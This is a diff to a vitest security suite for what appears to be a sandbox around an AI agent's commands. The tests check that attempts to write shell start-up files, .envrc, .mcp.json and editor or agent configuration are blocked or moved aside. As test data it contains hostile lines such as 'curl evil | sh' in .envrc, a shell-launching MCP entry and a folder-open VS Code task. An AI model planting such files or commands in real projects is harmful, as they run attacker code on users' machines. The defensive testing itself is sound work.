@@ -2,7 +2,8 @@ import { execFileSync } from "node:child_process";
 import { chmod, mkdir, symlink, writeFile } from "node:fs/promises";
 import path from "node:path";
 import { expect } from "vitest";
-import { attempt, verdicts } from "./fixture.js";
+import { MADE_BY_COMMAND as MADE } from "../moved-aside.js";
+import { attempt, takeMovedAside, verdicts } from "./fixture.js";
 import { quote } from "./servers.js";
 import type { AttackCases } from "./suite.js";
 
@@ -166,36 +167,40 @@ export const filesystemAttacks: AttackCases = (fixture, it) => {
     expect(await fixture.state()).toEqual(before);
   });
 
-  it("cannot create missing shell start-up files, .envrc or .mcp.json, and leaves no placeholder", async () => {
+  it("what a command makes at missing shell start-up files, .envrc or .mcp.json is moved aside", async () => {
     const before = await fixture.state();
-    const { stdout } = await fixture.run(
+    await fixture.run(
       [
-        attempt("echo 'curl evil | sh' > .envrc"),
-        attempt('echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .mcp.json'),
-        attempt("echo 'touch ~/pwned' > .bashrc"),
-        attempt("echo x > .zshenv"),
-        attempt("echo x > .profile"),
-        attempt("rmdir .envrc && echo x > .envrc"),
+        "echo 'curl evil | sh' > .envrc",
+        'echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .mcp.json',
+        "echo 'touch ~/pwned' > .bashrc",
+        "echo x > .zshenv",
+        "ln -s .zshenv .profile",
       ].join("\n"),
     );
-    expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
+    expect(await takeMovedAside(fixture.root)).toEqual(
+      [".bashrc", ".envrc", ".mcp.json", ".profile", ".zshenv"].map((name) => `${name}${MADE}`),
+    );
     expect(await fixture.state()).toEqual(before);
   });
 
-  it("cannot create or change editor and agent configuration", async () => {
+  it("cannot change editor configuration that exists, and what it makes of agents' is moved aside", async () => {
     const before = await fixture.state();
     const { stdout } = await fixture.run(
       [
         attempt(`echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`),
         attempt("echo '{\"x\":1}' > .vscode/settings.json"),
         attempt("mv .vscode vscode-old"),
-        attempt("mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json"),
-        attempt("mkdir -p .cursor && echo x > .cursor/mcp.json"),
-        attempt("mkdir -p .codex && echo x > .codex/config.toml"),
-        attempt("mkdir -p .idea && echo x > .idea/workspace.xml"),
+        "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
+        "mkdir -p .cursor && echo x > .cursor/mcp.json",
+        "mkdir -p .codex && echo x > .codex/config.toml",
+        "mkdir -p .idea && echo x > .idea/workspace.xml",
       ].join("\n"),
     );
-    expect(verdicts(stdout)).toEqual(Array(7).fill("BLOCKED"));
+    expect(verdicts(stdout)).toEqual(Array(3).fill("BLOCKED"));
+    expect(await takeMovedAside(fixture.root)).toEqual(
+      [".claude", ".codex", ".cursor", ".idea"].map((name) => `${name}${MADE}`),
+    );
     expect(await fixture.state()).toEqual(before);
   });
 
